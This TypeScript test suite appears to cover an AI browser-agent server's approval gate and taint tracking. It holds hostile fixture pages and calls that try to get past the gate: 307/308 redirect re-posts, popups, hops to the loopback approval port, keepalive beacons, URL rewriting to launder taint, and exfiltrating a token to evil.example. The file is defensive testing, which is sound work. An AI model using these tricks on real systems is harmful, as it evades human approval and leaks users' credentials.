// What an attack review got past the first network backstop, kept as tests: redirect hops of scripts' requests
// (307/308 re-posting into a sensitive page, also from a popup), a hop to tabward's own
// approval port, a keepalive POST as a tab closes, an approval's pass used by another tab, a page that renames
// its URL to escape taint, a same-site script reading a sensitive path, and quiet writes after a sensitive read.
// Assertions are on what the fixture servers received.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { inboxOf } from '../helpers/approvalInbox.ts';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type McpUnderTest, refOf, startMcp } from '../helpers/mcpClient.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_backstopToken77';

describe('the backstop holds where the first one did not', () => {
  let gh: Fixture;
  let blog: Fixture;
  let mcp: McpUnderTest;
  const deletes = () => gh.seen.filter((request) => request.path.startsWith('/settings/delete'));
  const sensitive = () => gh.url('github.com', '/settings/delete');

  before(async () => {
    gh = await startFixture(
      {
        '/settings/delete': (_req, _body, res) => html(res, '<title>Deleted</title>Deleted'),
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/settings/renamed': (_req, _body, res) =>
          html(
            res,
            `<title>Tokens</title><p>${token}</p><script>history.replaceState(null, '', '/acme')</script>`,
          ),
        '/settings/profile': (_req, _body, res) =>
          html(
            res,
            "<title>Profile</title><button onclick=\"fetch('/settings/profile', {method: 'POST'})\">Save</button>",
          ),
        '/acme': (_req, _body, res) => html(res, '<title>acme</title>acme'),
      },
      { tls: true },
    );
    blog = await startFixture({
      '/post': (_req, _body, res) =>
        html(res, '<title>Post</title><button onclick="fetch(\'/leak?c=\' + this.textContent)">7</button>'),
      '/hop': (req, _body, res) => {
        const to = new URL(req.url ?? '/', 'http://x').searchParams.get('to') ?? '/';
        res
          .writeHead(Number(new URL(req.url ?? '/', 'http://x').searchParams.get('code') ?? 307), {
            location: to,
          })
          .end();
      },
      '/frame': (_req, _body, res) =>
        html(
          res,
          `<title>Frame</title><form id="f" method="post" action="${blog.url('blog.example', `/hop?to=${encodeURIComponent(sensitive())}`)}"></form>
          <script>document.getElementById('f').submit()</script>`,
        ),
      '/host': (_req, _body, res) =>
        html(res, `<title>Host</title><iframe src="${blog.url('other.example', '/frame')}"></iframe>`),
      '/popup': (_req, _body, res) =>
        html(
          res,
          `<title>Popup</title><form method="post" target="_blank" action="/hop?to=${encodeURIComponent(sensitive())}"><button>Go</button></form>
          <a href="/hop?code=302&to=${encodeURIComponent(sensitive())}" target="_blank">Open</a>`,
        ),
      '/beacon': (_req, _body, res) =>
        html(
          res,
          `<title>Bye</title><script>addEventListener('pagehide', () => fetch(${JSON.stringify(sensitive())}, { method: 'POST', keepalive: true, mode: 'no-cors' }))</script>`,
        ),
      '/noisy': (_req, _body, res) =>
        html(
          res,
          `<title>Noisy</title><script>setInterval(() => fetch(${JSON.stringify(sensitive())}, { method: 'POST', mode: 'no-cors' }).catch(() => {}), 50)</script>`,
        ),
    });
    mcp = await startMcp({ args: ['--mode', 'isolated', '--approval', 'auto'] });
  });
  after(async () => {
    await mcp?.close();
    await gh?.close();
    await blog?.close();
  });

  test('a script POST or PUT redirected by 307/308 into a sensitive page is stopped', async () => {
    const before = deletes().length;
    await mcp.call('new_page', { url: blog.url('blog.example', '/post') });
    for (const [method, code] of [
      ['POST', 307],
      ['PUT', 308],
    ] as const) {
      const hop = blog.url('blog.example', `/hop?code=${code}&to=${encodeURIComponent(sensitive())}`);
      await mcp.call('evaluate_script', {
        function: `async () => { try { await fetch(${JSON.stringify(hop)}, { method: '${method}', mode: 'no-cors', body: 'x' }); } catch {} return 1; }`,
      });
    }
    await mcp.call('evaluate_script', {
      function: `() => new Promise((done) => { const x = new XMLHttpRequest(); x.open('POST', ${JSON.stringify(blog.url('blog.example', `/hop?to=${encodeURIComponent(sensitive())}`))}); x.onloadend = () => done(1); x.send('x'); })`,
    });
    assert.equal(deletes().length, before);
  });

  test('a popup re-posting through a 307 is stopped', async () => {
    const before = deletes().length;
    await mcp.call('new_page', { url: blog.url('blog.example', '/popup') });
    const page = await mcp.call('take_snapshot');
    await mcp.call('click', { ref: refOf(page.text, 'Go') });
    await waitFor('the popup to settle', async () =>
      /chrome-error/.test((await mcp.call('list_pages')).text),
    );
    assert.equal(deletes().length, before);
  });

  test('a popup through a 302 is stopped', async () => {
    const before = deletes().length;
    await mcp.call('new_page', { url: blog.url('blog.example', '/popup') });
    const page = await mcp.call('take_snapshot');
    await mcp.call('click', { ref: refOf(page.text, 'Open') });
    await waitFor('the popup to be tried', () =>
      blog.seen.some((request) => request.method === 'GET' && request.path.startsWith('/hop?code=302')),
    );
    await waitFor(
      'the popup to settle',
      async () => ((await mcp.call('list_pages')).text.match(/chrome-error/g) ?? []).length >= 2,
    );
    assert.equal(deletes().length, before);
  });

  test("a redirect to tabward's own approval page is stopped", async () => {
    const port = await inboxOf(mcp.home).pagePort();
    await mcp.call('navigate_page', { url: blog.url('blog.example', '/post') });
    for (const host of ['127.0.0.1', 'localhost', '127.0.0.2', '[::1]']) {
      const hop = blog.url(
        'blog.example',
        `/hop?code=302&to=${encodeURIComponent(`http://${host}:${port}/x`)}`,
      );
      const reached = await mcp.call('evaluate_script', {
        function: `async () => { try { await fetch(${JSON.stringify(hop)}, { mode: 'no-cors' }); return 'reached'; } catch { return 'stopped'; } }`,
      });
      assert.match(reached.text, /stopped/, `${host}: ${reached.text}`);
    }
  });

  test('a keepalive POST sent as a tab closes is stopped', async () => {
    const before = deletes().length;
    const opened = await mcp.call('new_page', { url: blog.url('blog.example', '/beacon') });
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    await mcp.call('close_page', { pageId: tab });
    await mcp.call('new_page', { url: blog.url('blog.example', '/post') });
    assert.equal(deletes().length, before);
  });

  test("an approval's pass covers its own tab, not another tab's requests", async () => {
    const before = deletes().length;
    await mcp.call('new_page', { url: blog.url('blog.example', '/noisy') });
    // The page, the click, and the script button's own POST: an approved click with no predicted target opens no
    // write, so the request it makes is a question of its own.
    mcp.human.will({ decision: 'approve' }, { decision: 'approve' }, { decision: 'approve' });
    await mcp.call('new_page', { url: gh.url('github.com', '/settings/profile') });
    const page = await mcp.call('take_snapshot');
    const saved = await mcp.call('click', { ref: refOf(page.text, 'Save') });
    assert.ok(!saved.isError, saved.text);
    assert.match(mcp.human.questions.at(-1) ?? '', /Sends: POST github\.com:\d+\/settings\/profile/);
    await waitFor('the approved save', () =>
      gh.seen.some((request) => request.method === 'POST' && request.path === '/settings/profile'),
    );
    assert.equal(deletes().length, before, 'the noisy tab got nothing through during the approval');
  });
});

describe('taint that cannot be laundered', () => {
  let gh: Fixture;
  let evil: Fixture;
  before(async () => {
    gh = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/settings/renamed': (_req, _body, res) =>
          html(
            res,
            `<title>Tokens</title><p>${token}</p><script>history.replaceState(null, '', '/acme')</script>`,
          ),
        '/acme': (_req, _body, res) => html(res, '<title>acme</title>acme'),
      },
      { tls: true },
    );
    evil = await startFixture({
      '/post': (_req, _body, res) =>
        html(res, '<title>Post</title><button onclick="fetch(\'/leak?c=\' + this.textContent)">7</button>'),
    });
  });
  after(async () => {
    await gh?.close();
    await evil?.close();
  });

  async function exfiltrationAsks(mcp: McpUnderTest): Promise<void> {
    assert.match((await mcp.call('browser_status')).text, /tainted by reading: https:\/\/github\.com/);
    const leak = await mcp.call('navigate_page', { url: evil.url('evil.example', `/leak?t=${token}`) });
    assert.ok(leak.isError, leak.text);
    assert.ok(!evil.seen.some((request) => request.path.includes(token)));
  }

  test('a page that rewrites its URL still taints by where it was loaded from', async () => {
    const mcp = await startMcp({ args: ['--mode', 'isolated'] });
    try {
      mcp.human.will({ decision: 'approve' });
      await mcp.call('new_page', { url: gh.url('github.com', '/settings/renamed') });
      assert.match((await mcp.call('take_snapshot')).text, new RegExp(token));
      await exfiltrationAsks(mcp);
    } finally {
      await mcp.close();
    }
  });

  test("a same-site script's fetch of a sensitive path taints", async () => {
    const mcp = await startMcp({ args: ['--mode', 'isolated'] });
    try {
      await mcp.call('new_page', { url: gh.url('github.com', '/acme') });
      // github.com has sensitive paths: a script on any of its pages asks; the human lets this one run.
      mcp.human.will({ decision: 'approve' });
      const read = await mcp.call('evaluate_script', {
        function: `async () => (await fetch('/settings/tokens')).text()`,
      });
      assert.match(read.text, new RegExp(token));
      await exfiltrationAsks(mcp);
    } finally {
      await mcp.close();
    }
  });

  test('after a sensitive read, a click or a resize on another site asks', async () => {
    const mcp = await startMcp({ args: ['--mode', 'isolated'] });
    try {
      await mcp.call('new_page', { url: evil.url('evil.example', '/post') });
      const page = await mcp.call('take_snapshot');
      mcp.human.will({ decision: 'approve' });
      await mcp.call('new_page', { url: gh.url('github.com', '/settings/tokens') });
      const evilTab = /p\d+/.exec(
        (await mcp.call('list_pages')).text.split('\n').find((line) => line.includes('evil.example')) ?? '',
      )?.[0];
      assert.ok(evilTab);
      const click = await mcp.call('click', { pageId: evilTab, ref: refOf(page.text, '7') });
      assert.ok(click.isError, click.text);
      const resize = await mcp.call('resize_page', { pageId: evilTab, width: 4242, height: 1337 });
      assert.ok(resize.isError, resize.text);
      assert.ok(!evil.seen.some((request) => request.path.startsWith('/leak')));
    } finally {
      await mcp.close();
    }
  });
});
